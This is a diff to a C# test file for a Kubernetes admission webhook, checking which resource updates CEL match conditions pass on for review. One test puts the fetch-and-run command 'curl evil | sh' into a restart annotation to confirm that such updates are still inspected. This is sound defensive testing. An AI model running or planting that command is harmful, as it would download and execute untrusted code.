@@ -9,7 +9,7 @@ using DeployGuard.Kubernetes.Webhooks;
 using DeployGuard.Rig;
 using DeployGuard.Webhook.Admission;
 
-namespace DeployGuard.EndToEnd;
+namespace DeployGuard.Chart.Tests;
 
 /// <summary>
 /// What an API server with matchConditions drops by itself, on whatever server the tests run: another implementation of CEL evaluates the
@@ -72,7 +72,7 @@ public class MatchConditionTests
     public async Task AnUpdateIsDroppedExactlyIfItOnlyRestartsOrScalesDown(string patch, bool isAsked, string what)
     {
         var review = Review("kubectl-set-image-update-deployment");
-        review["object"] = Patched(review["oldObject"]?.DeepClone().AsObject() ?? [], Sandbox.Parse(patch));
+        review["object"] = Patched(review["oldObject"]?.DeepClone().AsObject() ?? [], Parse(patch));
 
         Assert.That((await AskedAsync([review], [MatchConditions.MoreThanARestart(TemplateNoise.Default)])).Single(), Is.EqualTo(isAsked), what);
     }
@@ -85,9 +85,9 @@ public class MatchConditionTests
     {
         var review = Review("kubectl-set-image-update-deployment");
         var old = review["oldObject"]?.DeepClone().AsObject() ?? [];
-        old["spec"]!["template"]!["spec"] = Sandbox.Parse(spec);
+        old["spec"]!["template"]!["spec"] = Parse(spec);
         review["oldObject"] = old;
-        review["object"] = Patched(old.DeepClone().AsObject(), Sandbox.Parse("""{"spec": {"template": {"metadata": {"annotations": {"kubectl.kubernetes.io/restartedAt": "curl evil | sh"}}}}}"""));
+        review["object"] = Patched(old.DeepClone().AsObject(), Parse("""{"spec": {"template": {"metadata": {"annotations": {"kubectl.kubernetes.io/restartedAt": "curl evil | sh"}}}}}"""));
 
         Assert.That((await AskedAsync([review], [MatchConditions.MoreThanARestart(TemplateNoise.Default)])).Single(), Is.True);
     }
@@ -109,7 +109,7 @@ public class MatchConditionTests
         var review = Review("kubectl-set-image-update-deployment");
         review["userInfo"] = new JsonObject { ["username"] = user };
         review["oldObject"]!["metadata"]!["finalizers"] = new JsonArray("example.com/old");
-        review["object"] = Patched(review["oldObject"]?.DeepClone().AsObject() ?? [], Sandbox.Parse(patch));
+        review["object"] = Patched(review["oldObject"]?.DeepClone().AsObject() ?? [], Parse(patch));
 
         Assert.That((await AskedAsync([review], [MatchConditions.MoreThanARestart(TemplateNoise.Default)])).Single(), Is.EqualTo(isAsked), what);
         Assert.That((await AskedAsync([review], [MatchConditions.OtherMetadata])).Single(), Is.EqualTo(isAsked && !patch.Contains("spec", StringComparison.Ordinal)), "through a status the spec stays as it is");
@@ -144,7 +144,7 @@ public class MatchConditionTests
     public async Task WhatElseAReplicaSetsUpdateDoesIsAskedForOnceByTheOtherEntry()
     {
         var review = Review("kubectl-set-image-update-replicaset");
-        review["object"] = Patched(review["oldObject"]?.DeepClone().AsObject() ?? [], Sandbox.Parse("""{"metadata": {"labels": {"a": "b"}}, "spec": {"replicas": 0}}"""));
+        review["object"] = Patched(review["oldObject"]?.DeepClone().AsObject() ?? [], Parse("""{"metadata": {"labels": {"a": "b"}}, "spec": {"replicas": 0}}"""));
 
         Assert.That((await AskedAsync([review], [MatchConditions.FewerPods(TemplateNoise.Default)])).Single(), Is.False);
         Assert.That((await AskedAsync([review], [MatchConditions.MoreThanARestart(TemplateNoise.Default)])).Single(), Is.True);
@@ -168,8 +168,8 @@ public class MatchConditionTests
     [TestCase("""{"subsets": [{"addresses": [{"ip": "10.0.0.1"}]}]}""", true)]
     public async Task OtherAddressesAreAskedFor(string patch, bool isAsked)
     {
-        var old = Sandbox.Parse("""{"metadata": {"name": "web"}}""");
-        var review = new JsonObject { ["operation"] = "UPDATE", ["oldObject"] = old, ["object"] = Patched(old.DeepClone().AsObject(), Sandbox.Parse(patch)) };
+        var old = Parse("""{"metadata": {"name": "web"}}""");
+        var review = new JsonObject { ["operation"] = "UPDATE", ["oldObject"] = old, ["object"] = Patched(old.DeepClone().AsObject(), Parse(patch)) };
 
         Assert.That((await AskedAsync([review], [MatchConditions.OtherAddresses])).Single(), Is.EqualTo(isAsked));
     }
@@ -261,8 +261,8 @@ public class MatchConditionTests
     [TestCase("""{"metadata": {"annotations": {"a": "b"}}}""", false)]
     public async Task ANamespaceIsAskedIfItsLabelsChange(string patch, bool isAsked)
     {
-        var old = Sandbox.Parse("""{"metadata": {"name": "shop", "labels": {"deployguard.io/tier": "1"}}}""");
-        var review = new JsonObject { ["operation"] = "UPDATE", ["oldObject"] = old, ["object"] = Patched(old.DeepClone().AsObject(), Sandbox.Parse(patch)) };
+        var old = Parse("""{"metadata": {"name": "shop", "labels": {"deployguard.io/tier": "1"}}}""");
+        var review = new JsonObject { ["operation"] = "UPDATE", ["oldObject"] = old, ["object"] = Patched(old.DeepClone().AsObject(), Parse(patch)) };
 
         Assert.That((await AskedAsync([review], [MatchConditions.OtherLabels])).Single(), Is.EqualTo(isAsked));
     }
@@ -275,7 +275,7 @@ public class MatchConditionTests
             ["expressions"] = new JsonObject(conditions.Select(c => KeyValuePair.Create((string?)c["name"] ?? "", c["expression"]?.DeepClone()))),
             ["requests"] = new JsonArray([.. requests.Select(r => r.DeepClone())]),
         };
-        var run = (await Run.OfAsync("node", [World.Rig.Tools.Cel], new Dictionary<string, string>(), input.ToJsonString())).OrFail();
+        var run = (await Run.OfAsync("node", [(await Toolbox.InstallAsync()).Cel], Run.SameEnvironment, input.ToJsonString())).OrFail();
         using var answers = JsonDocument.Parse(run.Output);
         return [.. answers.RootElement.EnumerateArray().Select(a => a.EnumerateObject().All(c => c.Value.ValueKind is JsonValueKind.String ? throw new AssertionException($"{c.Name}: {c.Value}") : c.Value.GetBoolean()))];
     }
@@ -286,6 +286,8 @@ public class MatchConditionTests
         var read = new RequestReader(new WorkloadReader(WorkloadKinds.BuiltIn, TemplateNoise.Default, InjectionTable.BuiltIn)).Read(Webhook.Admission.Review.Read(review.RootElement));
         return SafeguardList.Evaluator(TrustedControllers.BuiltIn).Evaluate(read, new ClusterSnapshot { Policies = [s_policy] }, TimeProvider.System.GetUtcNow()).Evaluated.ChangeType;
     }
+
+    private static JsonObject Parse(string json) => JsonNode.Parse(json)?.AsObject() ?? throw new InvalidOperationException("no object");
 
     private static JsonObject Review(string name) => JsonNode.Parse(File.ReadAllText(Path.Combine(s_reviews, $"{name}.json")))?["request"]?.DeepClone().AsObject() ?? throw new InvalidOperationException($"{name} is no review");
 
